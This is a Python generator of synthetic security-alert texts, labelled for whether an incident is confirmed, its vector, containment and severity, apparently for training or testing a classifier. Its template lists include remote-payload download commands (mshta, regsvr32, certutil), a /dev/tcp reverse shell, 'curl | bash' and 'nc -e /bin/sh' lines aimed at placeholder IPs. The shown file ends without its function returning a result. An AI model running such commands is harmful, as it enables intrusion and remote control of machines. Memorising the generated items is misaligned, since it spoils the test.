"""security_incident: confirmed, vector, containment, severity (low..critical).

The answers are drawn first, then evidence sentences that carry them, then a register (plain
alert, SIEM key=value line, EDR detection, on-call chat, analyst notes, a user's report, a
forwarded notification). Rules, following the policy:
  confirmed  yes when access, data leaving or code running that nobody authorised is shown;
             no for scans, blocked or failed attempts, tests, approved activity, mere exposure.
  containment  unconfirmed: an exposed secret -> rotate_credentials, anything else -> monitor.
             confirmed: stolen password / used key -> rotate_credentials; code running on a
             machine (malware, web shell) -> isolate_host, unless it has already spread to many
             hosts -> page_team; data read through an open resource or by an insider -> page_team.
  severity   unconfirmed: low, an exposed secret moderate. confirmed: high, critical when the
             impact is major (bulk customer data, production, domain-wide spread).
"""

import re

from .common import pick, maybe, typo, FOREIGN

# ---------------------------------------------------------------- indicators and names
USERS = ["j.smith", "a.khan", "mlopez", "p.novak", "svc-backup", "t.nguyen", "r.okafor", "lwei",
         "e.garcia", "d.ivanova", "k.tanaka", "m.rossi", "s.patel", "b.oconnor", "h.muller",
         "finance-ap", "c.dubois", "n.haddad", "o.berg", "f.silva", "jdoe", "y.kim"]
NAMES = ["Priya", "Tom", "Ana", "Jonas", "Mei", "Carlos", "Fatima", "Olu", "Sven", "Grace", "Luca",
         "Aisha", "Ben", "Yuki", "Marta", "Raj", "Dmitri", "Chloe"]
HOST_PRE = ["web-prod", "api-gw", "db-replica", "wiki", "jenkins", "vpn-edge", "mail", "files",
            "app-stg", "k8s-node", "build", "crm", "hr-portal", "sftp", "git", "citrix-gw", "bastion"]
WKS_PRE = ["LT-", "WS-", "DESKTOP-", "MAC-", "FIN-LT-", "HR-WS-"]
EXT_IPS = ["203.0.113.", "198.51.100.", "45.83.12.", "185.220.101.", "91.243.44.", "194.26.29.",
           "5.188.206.", "103.75.190.", "146.70.124.", "23.94.7."]
COUNTRIES = ["Nigeria", "Russia", "Vietnam", "Brazil", "the Netherlands", "Romania", "a TOR exit node",
             "a VPS provider", "Singapore", "an unknown ASN", "Ukraine", "China"]
BRANDS = ["Microsoft 365", "Okta", "DocuSign", "SharePoint", "OneDrive", "Google Workspace", "Dropbox",
          "the payroll portal", "Workday", "Adobe Sign", "the VPN portal", "Zoom", "DHL", "Outlook Web"]
LURES = ["a fake invoice", "a 'password expires today' notice", "a shared document notification",
         "a voicemail notification", "a parcel delivery notice", "an HR bonus letter",
         "an urgent request from the 'CEO'", "a fake MFA re-enrolment mail", "a benefits enrolment form",
         "a QR code 'to keep your account active'", "a fake Teams message", "an overdue payment reminder"]
ATTACH = ["Invoice_{n}.docm", "Remittance_{n}.xlsm", "scan_{n}.zip", "PO-{n}.iso", "statement_{n}.lnk",
          "Payment_Advice_{n}.one", "resume_{n}.img", "order_{n}.html", "Q3_bonus_{n}.xlsm"]
OFFICE = ["WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE", "explorer.exe", "msedge.exe", "chrome.exe", "OneNote.exe"]
CHILD = ["powershell.exe -enc JABzAD0A...", "cmd.exe /c mshta http://{ip}/a.hta", "rundll32.exe C:\\Users\\Public\\x.dll,Start",
         "wscript.exe update.js", "regsvr32 /s /u /i:http://{ip}/s.sct scrobj.dll", "certutil -urlcache -f http://{ip}/p.exe",
         "msiexec /q /i http://{ip}/setup.msi", "powershell -nop -w hidden -c IEX(...)"]
MALWARE = ["a Cobalt Strike beacon", "a Qakbot loader", "an AsyncRAT implant", "a Lumma stealer",
           "an IcedID payload", "a Remcos RAT", "a Sliver implant", "an unknown dropper"]
SECRETS = [("AWS access key", "AKIA{k}"), ("GitHub personal access token", "ghp_{k}"), ("Stripe live key", "sk_live_{k}"),
           ("database password", "for prod-db"), ("SSH private key", "for the deploy user"), ("Slack bot token", "xoxb-{k}"),
           ("GCP service account key", "{k}.json"), ("Azure SAS token", "for the backups container"),
           ("Twilio auth token", "{k}"), ("npm publish token", "npm_{k}"), ("OpenAI API key", "sk-{k}"),
           ("SendGrid API key", "SG.{k}"), ("admin password", "for the CRM"), ("Okta API token", "00{k}")]
LEAK_PLACES = ["a public GitHub repo", "a public gist", "Pastebin", "a public Docker image layer", "a published npm package",
               "a public Postman workspace", "the client-side JS bundle", "a public Trello board", "public CI build logs",
               "a stealer-log dump on a forum", "a Stack Overflow question", "a public S3 object", "a Hugging Face space",
               "a screenshot posted on Twitter", "the mobile app's APK"]
CVES = [("Log4j", "CVE-2021-44228"), ("Confluence", "CVE-2022-26134"), ("MOVEit Transfer", "CVE-2023-34362"),
        ("Citrix ADC", "CVE-2023-4966"), ("Exchange", "CVE-2021-34473"), ("FortiOS", "CVE-2022-40684"),
        ("Ivanti Connect Secure", "CVE-2023-46805"), ("Spring Framework", "CVE-2022-22965"), ("Jenkins", "CVE-2024-23897"),
        ("Apache Struts", "CVE-2017-5638"), ("GitLab", "CVE-2023-7028"), ("PaperCut", "CVE-2023-27350"),
        ("Atlassian Bitbucket", "CVE-2022-36804"), ("Apache ActiveMQ", "CVE-2023-46604"), ("TeamCity", "CVE-2024-27198"),
        ("ScreenConnect", "CVE-2024-1709"), ("PAN-OS GlobalProtect", "CVE-2024-3400"), ("Drupal", "CVE-2018-7600")]
SHELL_PROC = ["sh -c 'curl http://{ip}/x | bash'", "bash -i >& /dev/tcp/{ip}/4444", "python3 -c 'import pty...'",
              "/tmp/.x/kworkerd", "xmrig --donate-level 1", "nc -e /bin/sh {ip} 443", "java spawning /bin/sh",
              "w3wp.exe -> cmd.exe whoami", "perl /tmp/bd.pl"]
OPEN_THINGS = ["an S3 bucket", "an Azure blob container", "a GCS bucket", "an Elasticsearch cluster", "a MongoDB instance",
               "a Kibana dashboard", "a Redis server", "a Firebase database", "a SharePoint folder shared 'anyone with the link'",
               "the /backup directory on the web server", "a Grafana instance with anonymous admin", "a staging API without auth",
               "an FTP share", "a Jupyter server with no token"]
DATA = ["files", "documents", "records", "exports", "backups", "data", "folders", "attachments", "spreadsheets"]
NO_USE = ["no use of it in the logs yet", "no calls from unknown IPs so far", "the audit log shows no activity with it",
          "nothing from outside in CloudTrail", "not used since, as far as the logs show", "zero API calls from other IPs",
          "access logs show only our own services", "no sign of anyone using it", "no hits in the auth logs", "unused so far"]
BLOCKED = ["all requests returned 404", "every attempt was blocked", "no successful responses", "nothing got through",
           "the server answered 403 each time", "no new processes or files on the box", "the payload never executed",
           "all attempts failed", "the version we run is not affected", "responses were error pages only"]
NO_CLICK = ["nobody clicked", "no clicks recorded", "no one opened the link", "zero clicks in proxy logs",
            "no credentials were entered", "nobody replied", "no one opened the attachment", "it never reached inboxes"]
NO_ACCESS = ["no logins from outside seen", "no external requests in the logs", "never accessed by anyone outside",
             "access logs show only our own service account", "no connections from unknown IPs", "nothing was read from outside",
             "no downloads recorded"]
INSIDER_ROLES = ["employee", "contractor", "admin", "support agent", "DBA", "developer", "sales rep", "intern", "IT technician"]
APPROVERS = ["their manager", "HR", "the data owner", "the CISO", "the team lead", "the change board"]


def _ip(rng):
    return pick(rng, EXT_IPS) + str(int(rng.integers(2, 254)))


def _hex(rng, n):
    return "".join(pick(rng, list("0123456789abcdef")) for _ in range(n))


def _key(rng):
    return "".join(pick(rng, list("ABCDEFGHJKLMNPQRSTUVWXYZ234567abcdefghkmnpqrstuvwxyz")) for _ in range(int(rng.integers(6, 12))))


def _host(rng):
    return pick(rng, HOST_PRE) + pick(rng, ["-0", "-", "", "-prod-", "-eu-"]) + str(int(rng.integers(1, 9)))


def _wks(rng):
    return pick(rng, WKS_PRE) + str(int(rng.integers(1000, 9999)))


def _time(rng):
    return "%02d:%02d" % (int(rng.integers(24)), int(rng.integers(60))) + pick(rng, [" UTC", "Z", "", " CET", " local"])


def _num(rng):
    return str(int(rng.integers(2, 400)))


def _fill(rng, s):
    """Fills every placeholder with a fresh draw."""
    reps = {"{u}": lambda: pick(rng, USERS), "{ip}": lambda: _ip(rng), "{h}": lambda: _host(rng),
            "{w}": lambda: _wks(rng), "{t}": lambda: _time(rng), "{n}": lambda: _num(rng),
            "{k}": lambda: _key(rng), "{c}": lambda: pick(rng, COUNTRIES), "{b}": lambda: pick(rng, BRANDS),
            "{lure}": lambda: pick(rng, LURES), "{nouse}": lambda: pick(rng, NO_USE),
            "{blocked}": lambda: pick(rng, BLOCKED), "{noclick}": lambda: pick(rng, NO_CLICK), "{noacc}": lambda: pick(rng, NO_ACCESS), "{mw}": lambda: pick(rng, MALWARE), "{data}": lambda: pick(rng, DATA),
            "{role}": lambda: pick(rng, INSIDER_ROLES), "{appr}": lambda: pick(rng, APPROVERS),
            "{name}": lambda: pick(rng, NAMES), "{sha}": lambda: _hex(rng, 64), "{md5}": lambda: _hex(rng, 32),
            "{mins}": lambda: str(int(rng.integers(2, 50))), "{dom}": lambda: pick(rng, [
                "micros0ft-login.com", "okta-secure-verify.net", "docusign-review.co", "sharepoint-files.app",
                "acme-payroll.help", "login-m365.live", "hr-portal-update.info", "secure-dhl-track.top"])}
    for k, f in reps.items():
        while k in s:
            s = s.replace(k, f(), 1)
    return s


# ---------------------------------------------------------------- evidence, per (vector, kind)
# kind: "creds" (an account taken over), "host" (code running on a machine), "data" (data read
# through an open resource or by an insider), "no" (not confirmed).
EVIDENCE = {
    ("phishing", "creds"): [
        "Okta: {u} signed in from {ip} ({c}) right after visiting {dom}, a copy of our login page. The user confirms they typed their password there.",
        "helpdesk: {u} says they 'logged in to check a document' from {lure}; since then someone at {ip} is using the account",
        "Token theft via fake {b} page: {u}'s refresh token is being used from {c}; new OAuth app consented in their name.",
        "{u} fell for {lure} and gave away their password + MFA code. Attacker logged in from {ip} at {t} and registered a new MFA device.",
        "{u} entered their password on a fake {b} login page ({dom}) after {lure}; a sign-in from {ip} ({c}) followed {mins} minutes later.",
        "{u} clicked the link in {lure} and typed their credentials into {dom}. Shortly after, their account logged in from {ip} and an inbox rule forwarding all mail to an external address was created.",
        "A caller pretending to be the IT helpdesk talked {u} into reading out their MFA code; the attacker then signed in to {b} from {ip}.",
        "{u} approved an MFA push they did not start after entering their password on {dom}. Sign-in logs: successful login from {c}, new device registered.",
        "Impossible travel for {u}: login from {ip} ({c}) {mins} min after a normal login from the office. The user admits submitting their password on a page from {lure}.",
        "{u} scanned the QR code in {lure} and signed in on the page it opened; the session token was replayed from {ip} and mailbox rules were added.",
        "After {lure}, {u} gave their {b} password to a site at {dom}. Audit log shows {ip} reading mail and sending {n} messages from the account.",
        "Adversary-in-the-middle phishing: {u}'s session cookie was captured via {dom} and reused from {ip} to access {b}.",
        "{u} replied to a fake 'IT support' mail with their username and password. The account was used from {ip} at {t} to download files from OneDrive.",
        "user {u} got {lure}, logged in on the fake {b} page, and now {ip} has an active session on their account",
    ],
    ("phishing", "host"): [
        "{u} downloaded {att} from a link in {lure} and ran it on {w}; {mw} now persists via a Run key and calls {ip}.",
        "HTML smuggling: {u} opened {att} from {lure}, which dropped a script. {parent} -> {child} on {w}; connection to {ip} established.",
        "{u} was convinced by a fake recruiter to run a 'coding test' on {w}; the script installed {mw} talking to {ip}.",
        "{u} opened an attachment ({att}) from a spoofed sender; {parent} launched {child} and the host {w} is connecting to {ip}.",
        "{u} ran a fake 'browser update' from a phishing link; EDR on {w} shows {mw} beaconing to {ip} every 60s.",
        "After {lure}, {u} opened {att} and clicked through the warnings. Process tree on {w}: {parent} -> {child}. Outbound C2 traffic to {ip}.",
        "{u} was tricked into running a 'Teams installer' from a chat link; {mw} was installed on {w} (sha256 {sha}).",
        "A user on {w} opened {att} from {lure}; the file dropped {mw} which is now running and talking to {ip}.",
        "Callback phishing: {u} called the number in {lure} and let the 'support agent' install AnyDesk on {w}; the remote session is still running from {ip}.",
        "{u} double-clicked {att} from an email posing as a supplier. {parent} spawned {child}; hash {md5} matches {mw}.",
    ],
    ("phishing", "no"): [
        "{u} reported {lure} as phishing before opening it; same message found in {n} mailboxes and removed, {noclick}.",
        "Awareness test email (approved by the CISO) sent to {n} users; {u} entered a fake password on the training page, as designed.",
        "Mail gateway: DMARC fail, spoofed CFO address asking {u} to pay an invoice. Finance verified by phone and paid nothing.",
        "Smishing text to {n} staff about a 'parcel' from {dom}; {noclick}.",
        "{n} employees received {lure} imitating {b}; the link was blocked by the mail gateway and nobody clicked.",
        "Phishing wave: {lure} sent to {n} staff from {dom}; {noclick}.",
        "{u} forwarded {lure} to the phishing mailbox. Checked the logs: {noclick}.",
        "Reported phishing email to {u}: {lure}, quarantined, no clicks recorded.",
        "{u} reported a suspicious email ({lure}) with a link to {dom}. Proxy logs show no one visited it; message purged from {n} mailboxes.",
        "Simulated phishing campaign run by the awareness team this week; {n} users clicked the training link. No real credentials involved.",
        "{u} clicked a link in {lure} but the proxy blocked {dom} and nothing was entered. No new sign-ins on the account.",
        "Attachment {att} from {lure} was detonated in the sandbox and blocked before delivery to {n} inboxes.",
        "A user forwarded a message asking for gift cards 'from the CEO'. They did not reply or buy anything.",
        "Mail gateway quarantined {n} messages with {att} (hash {md5}) sent to the finance team; none released.",
        "{u} got a call from someone claiming to be IT asking for their MFA code; they hung up and reported it. No sign-ins from new locations.",
        "Lookalike domain {dom} registered yesterday; sent {lure} to {n} staff, all reported, zero clicks.",
    ],
    ("leaked_credential", "creds"): [
        "{sec} {sv} from {place} is being used right now from {ip} ({c}); our pipelines never run from there.",
        "Dark web monitor: credentials of {u} from an old breach; the same password just logged in to {b} from {ip} without MFA.",
        "CloudTrail: calls with our {sec} from {ip}, {mins} minutes after it was pushed to {place}.",
        "Password spraying found a match: {u}'s password, reused from a leaked list, worked from {ip} at {t}.",
        "{sec} {sv} exposed in {place} was used from {ip} at {t}, not by any of our services.",
        "A {sec} posted on {place} was used from {ip} ({c}) to authenticate to our systems; none of our services runs there.",
        "{sec} {sv} leaked in {place}; logs show {ip} making {n} authenticated calls with it at {t}.",
        "The {sec} from {place} has been used by {ip} ({c}); we never call from there.",
        "Someone is using our {sec} ({sv}), which was committed to {place}, from {ip}: {n} authenticated requests in the last hour, none from our services.",
        "Credentials of {u} appeared in {place}; the same password was used to log in to the VPN from {ip} without MFA.",
        "{sec} found in {place} last week. Today it was used from {c} to read data.",
        "Our {sec} leaked via {place} and was used from {ip} to call the API.",
    ],
    ("leaked_credential", "no"): [
        "{sec} {sv} leaked in {place} by {u} at {t}; {nouse}.",
        "Pre-commit hook missed a {sec}; it reached {place} for {mins} minutes. {nouse}.",
        "Contractor posted a {sec} in {place} by accident; {nouse}.",
        "Secret scanner found a {sec} ({sv}) committed to {place} {mins} minutes ago; no use of it in the logs yet.",
        "{sec} exposed in {place} since {t}; {nouse}.",
        "Found {sec} {sv} in {place}. {nouse}.",
        "A {sec} appeared in {place}; audit log shows no calls with it since.",
        "{sec} {sv} is visible in {place}. Access logs checked for the last 30 days: only our own services used it.",
        "GitHub secret scanning: {sec} pushed to {place} by {u}. No unknown IPs have used it so far.",
        "Password of {u} found in {place} (combolist). No logins with it seen; the account has not been used from outside.",
        "{sec} for the payments service was pasted in {place} by a developer asking for help. Nothing in the logs shows anyone used it.",
        "Bug bounty report: {sec} hardcoded in {place}. The researcher did not use it and we see no calls from other IPs.",
    ],
    ("vulnerable_service", "host"): [
        "EDR on {h}: the {prod} service spawned {shell} after an exploit for {cve} from {ip}.",
        "Path traversal + RCE in {prod} ({cve}) exploited on {h}; attacker from {ip} uploaded a tool and ran it as root.",
        "Honeypot-style burst from {ip}, then {cve} worked on {h}: {prod} wrote {sha}.php to the web root and it is being called.",
        "{prod} on {h} (never patched for {cve}) was exploited; a new SSH key was added for root and {shell} is running.",
        "WAF logs show exploitation of the unpatched file upload endpoint on {h}; a web shell was written and executed.",
        "IDS: remote code execution against the outdated {prod} ({cve}) on {h}; a reverse shell to {ip} was opened.",
        "{cve} exploited on {h} ({prod}): process {shell} running as the service user, connecting to {ip}.",
        "{prod} on {h} was hit with {cve} at {t}. EDR shows {shell} and a new cron job for persistence.",
        "Unpatched {prod} ({cve}) on {h}: attacker from {ip} dropped a JSP web shell and ran whoami, id and curl.",
        "Deserialization exploit against {prod} on {h}; a crypto miner is now using 100% CPU and talking to {ip}.",
        "{h} runs {prod} still vulnerable to {cve}. Logs show the exploit payload from {ip} followed by {shell}.",
        "New unknown binary (sha256 {sha}) on {h} started by the {prod} process after requests from {ip} matching {cve}.",
    ],
    ("vulnerable_service", "no"): [
        "Log4Shell-style strings from {ip} in the headers of requests to {h}; {blocked}.",
        "Red team exercise (authorised, ticket SEC-{n}): exploit for {cve} run against {h} from {ip}.",
        "Bug bounty hunter reported {prod} on {h} vulnerable to {cve}; proof was a version banner, nothing executed.",
        "Scanner from {ip} probed {h} for {cve}; all requests returned 404.",
        "Exploit attempts for {prod} {cve} from {ip} against {h}: {blocked}.",
        "{n} requests from {ip} ({c}) tried {cve} on {h}; {blocked}.",
        "Vulnerability scan lists an outdated {prod} on {h} ({cve}); no exploitation attempts seen.",
        "WAF blocked {n} requests from {ip} trying {cve} against {h}; the server is patched and nothing got through.",
        "Mass scanning for {prod} {cve} from {ip}; we do not run {prod} on {h}, every request got a 404.",
        "Scheduled pentest by the approved vendor from their agreed IP {ip}: exploit attempts against {prod} on {h} as planned.",
        "IDS signature for {cve} fired on traffic to {h}; packet capture shows a generic scanner, the response was an error page.",
        "Shodan shows {h} exposes {prod}; version is already patched for {cve}. No suspicious logs.",
        "Nuclei-style scan from {ip} against {h}: {n} templates tried, no successful responses, no new processes.",
    ],
    ("misconfiguration", "data"): [
        "After a Terraform change {open} lost its firewall rules; {ip} ({c}) downloaded {data} for {mins} minutes before we noticed.",
        "Default admin/admin password was never changed on {open}; {ip} logged in and exported {data}.",
        "{open} was set public for a demo and never closed; logs show {n} unknown clients fetched {data}.",
        "CORS set to * on the internal API on {h} by mistake; a third-party site at {dom} pulled {data} through it.",
        "{open} was public by mistake; access logs show {n} downloads of {data} from unknown IPs.",
        "{open} on {h} was left open to the internet and its contents were read and deleted by {ip}.",
        "During a migration {open} got public read access; {ip} listed and downloaded {data} over the weekend.",
        "Firewall rule was changed to allow any source by mistake; {ip} connected to {open} and pulled {data}.",
        "A researcher emailed us: {open} was reachable without a password and they could see {data}. Logs confirm {ip} and others downloaded files.",
        "{open} had no authentication after a default install; {ip} dumped {data} and left a ransom note.",
        "Wrong ACL on {open} since the last deploy: {n} requests from {c} downloaded {data}.",
    ],
    ("misconfiguration", "no"): [
        "Terraform plan shows {open} would be public; caught in review, never applied. {noacc}.",
        "Wiz: {open} on {h} has a public endpoint and no auth; {noacc}.",
        "Debug mode was on in production on {h} for a day; {noacc}.",
        "Audit: {n} IAM users with unused admin rights, one with a wildcard policy; {noacc}.",
        "Config audit: security group on {h} allows SSH from 0.0.0.0/0; no logins from outside seen.",
        "{open} was left open by mistake after a change on {h}; {noacc}.",
        "Misconfigured: {open} reachable from the internet since {t}. {noacc}.",
        "A test bucket was found public during review; it holds only sample data and was never accessed.",
        "CSPM finding: {open} allows public read. Access logs show only our own service account.",
        "Internal review found {open} without auth on {h}; closed today, no external requests in the logs.",
        "Port 9200 on {h} was open to the internet for {mins} minutes after a change; no connections from outside recorded.",
        "Posture check: MFA not enforced for {n} admin accounts; no unusual sign-ins.",
        "{open} was shared 'anyone with the link' by mistake; the link was never opened by anyone outside.",
        "TLS certificate expired on {h} and directory listing is on; nobody external accessed the files.",
    ],
    ("insider", "data"): [
        "{role} {u} queried the salaries of the whole company at {t} with their DB access; no ticket, {appr} knew nothing about it.",
        "Departing {role} {u} synced {data} from the shared drive to a personal Dropbox on their last day.",
        "{role} {u} used a colleague's unlocked session to open {data} they are not allowed to see.",
        "{role} {u} sold access: logs show their account exporting {data} to an external address they control, no business reason.",
        "{role} {u} copied files from the CRM to a personal USB drive two days before leaving the company.",
        "Admin {u} used their access to open another team's restricted share without a ticket or approval.",
        "{role} {u} looked up the records of {n} customers with no ticket or reason; {appr} did not approve it.",
        "{role} {u} uploaded {data} to a personal Google Drive the week they resigned.",
        "DLP: {role} {u} emailed {n} {data} to a competitor's domain. Nobody authorised it.",
        "Developer {u} pushed a company repository to a personal GitHub account after giving notice.",
        "{role} {u} exported a database table to their own laptop at {t}; {appr} confirms there was no request for it.",
        "{role} {u} printed and photographed {data} from a restricted share they only had access to for support work.",
    ],
    ("insider", "no"): [
        "{role} {u} opened {n} HR files; they work in HR and {appr} confirms it is their job.",
        "DLP: {role} {u} uploaded {data} to WeTransfer for a client; the transfer was requested by the client and approved by {appr}.",
        "Large export by {role} {u} at {t}; matches the quarterly report job they run every quarter.",
        "DLP flagged {u} emailing a spreadsheet to their personal address; it contains only their own timesheet.",
        "Unusual after-hours access by {u} to the finance share; {appr} confirms it was approved overtime.",
        "Bulk download of {data} by {role} {u}; it matches an approved migration ticket.",
        "{role} {u} copied {n} files to USB; {appr} confirms it was for an approved audit.",
        "UEBA anomaly: {u} accessed {n} customer records in an hour; each one is linked to a support ticket.",
        "{role} {u} logged in from home at {t} on a Sunday; it was the planned maintenance window.",
        "Admin {u} reset another user's password; the helpdesk ticket and the user's request are on file.",
    ],
}

# impact sentences for confirmed incidents; "major" -> critical, "limited" -> high
IMPACT = {
    ("creds", "major"): ["The account has admin rights over the whole tenant.", "{rows} customer records were downloaded using it.",
                         "Payroll bank details of all staff were changed from the account.", "A wire transfer of ${amt} was sent from the finance account.",
                         "The attacker used it to export the full customer database.", "About {gb} GB of data left through it."],
    ("creds", "limited"): ["The account is a standard user with no admin rights; nothing beyond its own mailbox was touched.",
                           "Only a few internal emails were read; no sensitive data in that account.",
                           "The user has no access to customer data or admin tools.", "The session was cut after {mins} minutes; only the user's own files were viewed."],
    ("key", "major"): ["With it {ip} downloaded {rows} customer records.", "The credential has full admin rights in production.",
                       "About {gb} GB of customer data was copied out with it.", "It was used to read the whole customer database."],
    ("key", "limited"): ["The credential is read-only and only reaches public marketing images.", "It only has access to a sandbox with no real data.",
                         "Only {n} read calls on non-sensitive config were made.", "Its scope is one test project with dummy data."],
    ("host", "major"): ["The compromised server holds the production customer database.", "The server holds all of the finance team's invoices and payroll files.",
                        "About {gb} GB was sent out to {ip2} before the alert.", "Files on the server are being encrypted (ransomware note found)."],
    ("host", "limited"): ["The machine holds no sensitive data and has no saved credentials.", "Only that one machine shows it, and it holds no sensitive data.",
                          "Only that one machine is affected; outbound traffic was small.", "No data transfer out seen yet, and the box has no sensitive data."],
    ("data", "major"): ["It contains {rows} customer records with names, emails and card numbers.", "About {gb} GB of personal data, including passports, was taken.",
                        "The data includes health records of {rows} patients.", "It includes the full customer database and password hashes."],
    ("data", "limited"): ["The files were internal meeting notes, no personal or customer data.", "Only {n} non-sensitive documents were involved.",
                          "The data is a marketing price list that is not secret.", "Only a few internal contacts' business emails were exposed."],
}
SPREAD = ["The same beacon is now seen on {n} other hosts.", "Lateral movement via PsExec to {n} servers in the last hour.",
          "EDR shows the same hash on {n} machines across two sites.", "The attacker is moving laterally; {n} more hosts show the same process."]

FILLERS = ["Ticket opened automatically.", "Rule: generic-anomaly-{n}.", "Analyst on call notified.", "Correlation ID {k}.",
           "First seen {t}.", "Please advise.", "More details in the SIEM.", "Logs attached.", "Will update the ticket.",
           "Alert fired at {t}.", "Event count: {n}.", "No further info yet.", "pls take a look", "FYI", "Sent from my phone."]
DISTRACTORS = ["Reminder: phishing awareness training is due Friday.", "Unrelated: the password manager rollout continues next week.",
               "The quarterly pentest report is still pending.", "Patch Tuesday updates are scheduled for tonight.",
               "The backup job on {h} finished OK.", "On-call this week is {name}.", "Also, the VPN certificate renewal is next month.",
               "The MFA migration ticket is still open, separate topic.", "(Last week's vulnerability scan had no new findings on other hosts.)"]


def _evidence(rng, vector, kind):
    s = pick(rng, EVIDENCE[(vector, kind)])
    sec, sv = pick(rng, SECRETS)
    prod, cve = pick(rng, CVES)
    s = (s.replace("{sec}", sec).replace("{sv}", sv).replace("{place}", pick(rng, LEAK_PLACES))
         .replace("{prod}", prod).replace("{cve}", cve).replace("{shell}", pick(rng, SHELL_PROC))
         .replace("{open}", pick(rng, OPEN_THINGS)).replace("{att}", pick(rng, ATTACH))
         .replace("{parent}", pick(rng, OFFICE)).replace("{child}", pick(rng, CHILD))
         .replace("{rows}", pick(rng, ["1,200", "40,000", "85k", "2.3 million", "310", "12,500"])))
    return _fill(rng, s)


def _impact(rng, kind, level):
    s = pick(rng, IMPACT[(kind, level)])
    s = (s.replace("{rows}", pick(rng, ["40,000", "120k", "2.3 million", "15,000", "600,000"]))
         .replace("{gb}", pick(rng, ["12", "40", "300", "1.5k", "85"])).replace("{amt}", pick(rng, ["250,000", "1.2M", "480,000"]))
         .replace("{h2}", "{h}").replace("{ip2}", "{ip}"))
    return _fill(rng, s)


# ---------------------------------------------------------------- registers
CONTEXT = ["We moved the CRM to the cloud last month.", "Night shift handed this over at {t}.", "Background: {h} was rebuilt on Monday.",
           "Quick timeline below.", "{name} from finance called the helpdesk at {t} about something unrelated.",
           "Context: this is the team that just started using the new VPN.", "This came in during the release freeze.",
           "We got {n} alerts overnight, most of them noise; this one stood out.", "Started looking at it after the morning stand-up.",
           "Copying the relevant lines from the console."]
SIEM_RULES = ["Suspicious Activity", "Anomalous Behaviour", "Security Event", "Correlated Alert", "Threat Detection",
              "Policy Violation", "Investigate", "Detection Rule {n}"]
GREET = ["Hi team,", "Hello security,", "Hi IT,", "Good morning,", "Dear SOC,", "Hey,", "Hi all,", "Hello,"]
SIGN = ["Thanks,", "Best regards,", "Cheers,", "Thank you,", "Regards,", "BR,", "Kind regards,"]
CHAT_OPEN = ["hey @oncall", "anyone awake?", "@security heads up", "quick one -", "yo sec team", "hi, not sure who owns this but",
             "ping @soc", "fyi all", "urgent-ish?", "so uh"]
CHAT_OPEN += ["hello, please to check, we see this in log today morning:", "sorry for bother, is maybe problem?",
              "ok so this again.", "heads-up from the night shift:", "escalating from L1:", "guys", "hi! question about an alert:", "@here"]
CHAT_CLOSE = ["what do we do?", "thoughts?", "can someone look", "pls advise", "who's on it?", "need eyes on this", "", "lmk"]


def _register(rng, facts, source):
    r = int(rng.integers(9))
    body = " ".join(facts)
    if r == 0:  # SIEM line with fields
        head = _fill(rng, 'ts=2026-%02d-%02dT{t} src=%s rule="%s" src_ip={ip} user={u} ' % (
            int(rng.integers(1, 13)), int(rng.integers(1, 29)), source.replace(" ", "_"), _fill(rng, pick(rng, SIEM_RULES))))
        return head + 'msg="' + body + '"'
    if r == 1:  # EDR detection
        return _fill(rng, pick(rng, ["EDR detection | host: {w} | user: {u} | ", "[EDR] Detection on {h} - ", "Detection: Suspicious behavior. Device: {w}. "])) + body
    if r == 2:  # on-call chat
        t = pick(rng, CHAT_OPEN) + " " + body.lower() + " " + pick(rng, CHAT_CLOSE)
        return t.strip()
    if r == 3:  # analyst notes
        head = pick(rng, ["Triage notes:", "Analyst notes ({t}):", "Investigation summary", "Notes - {name}:", "IR timeline:"])
        return _fill(rng, head) + "\n" + "\n".join("- " + f for f in facts)
    if r == 4:  # user / colleague report
        return "%s\n%s %s\n%s %s" % (pick(rng, GREET), pick(rng, ["I want to report something.", "Writing about an alert from %s." % source,
                                                                   "Not sure if this is important, but:", "Please check this:", "",
                                                                   "I write you because of this finding.", "Sorry to bother, I am not expert but",
                                                                   "Honestly I'm fed up, third alert this month and nobody answers.",
                                                                   "As discussed on the phone:", "Following up on my call with the helpdesk:",
                                                                   "Please find below what we found.", "Kindly check below and revert."]),
                                     body, pick(rng, SIGN), pick(rng, NAMES))
    if r == 5:  # forwarded notification
        return _fill(rng, "---------- Forwarded message ----------\nFrom: %s-alerts@acme.io\nSubject: [%s] alert {k}\n\n" % (
            source.split()[0].lower(), source)) + body
    if r == 6:  # bullet list
        return "\n".join("* " + f for f in facts)
    return body  # plain


SOURCES = ["SIEM", "EDR", "CloudTrail", "GuardDuty", "mail gateway", "WAF", "DLP", "GitHub secret scanning", "Splunk",
           "Microsoft Sentinel", "CrowdStrike Falcon", "Defender for Endpoint", "SentinelOne", "Okta", "Azure AD sign-in logs",
           "IDS", "Suricata", "user report", "phishing mailbox", "on-call chat", "UEBA", "CSPM", "Wiz", "bug bounty", "Elastic SIEM"]


def security_incident(rng):
    vector = pick(rng, ["phishing", "leaked_credential", "vulnerable_service", "misconfiguration", "insider"])
    confirmed = "yes" if maybe(rng, 0.5) else "no"
    if confirmed == "yes":
        kind = {"phishing": "creds" if maybe(rng, 0.5) else "host", "leaked_credential": "creds",
                "vulnerable_service": "host", "misconfiguration": "data", "insider": "data"}[vector]
        facts = [_evidence(rng, vector, kind)]
        spread = kind == "host" and maybe(rng, 0.3)
        level = "major" if spread or maybe(rng, 0.5) else "limited"
        if spread:
            facts.append(_fill(rng, pick(rng, SPREAD)))
        else:
            facts.append(_impact(rng, "key" if vector == "leaked_credential" else kind, level))
        containment = {"creds": "rotate_credentials", "host": "page_team" if spread else "isolate_host", "data": "page_team"}[kind]
        severity = "critical" if level == "major" else "high"
    else:
        facts = [_evidence(rng, vector, "no")]
        containment = "rotate_credentials" if vector == "leaked_credential" else "monitor"
        severity = "moderate" if vector == "leaked_credential" else "low"
    source = pick(rng, SOURCES)
    if maybe(rng, 0.2):
        facts.insert(0, _fill(rng, pick(rng, CONTEXT)))
    # fillers and a distractor around the evidence, never between cause and impact in lists
    for _ in range(int(rng.integers(0, 3))):
        facts.insert(int(rng.integers(len(facts) + 1)), _fill(rng, pick(rng, FILLERS)))
    if maybe(rng, 0.3):
        facts.insert(int(rng.integers(len(facts) + 1)), _fill(rng, pick(rng, DISTRACTORS)))
    text = _register(rng, facts, source)
    text = re.sub(r"\b([Aa]) ([AEIO])", r"\1n \2", text)
    if maybe(rng, 0.25):
        text = pick(rng, ["[ALERT] ", "ALERT: ", "sev? ", "auto-generated: ", "P2: ", "!! ", "RE: ", "New incident: "]) + text
    if maybe(rng, 0.1):
        text = text + " " + pick(rng, FOREIGN)
    if maybe(rng, 0.3):
        text = typo(rng, text, 0.04)
